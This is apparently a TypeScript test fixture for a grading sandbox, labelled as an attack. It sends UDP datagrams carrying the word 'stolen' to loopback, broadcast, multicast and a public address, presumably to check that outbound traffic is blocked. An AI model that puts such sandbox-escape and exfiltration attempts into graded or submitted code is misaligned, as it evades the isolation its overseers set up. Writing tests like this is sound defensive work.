// attack: sends datagrams to the machine and to everybody
import * as dgram from 'node:dgram';
import type { AnswerContext } from 'warren/grading';

export default async function ({ log }: AnswerContext): Promise<void> {
  const socket = dgram.createSocket('udp4');
  socket.on('error', (error) => log(String(error)));
  for (const host of ['127.0.0.1', '255.255.255.255', '224.0.0.1', '8.8.8.8']) {
    await new Promise<void>((resolve) => socket.send('stolen', 21863, host, (error) => resolve(log(host, String(error)))));
  }
  socket.close();
}
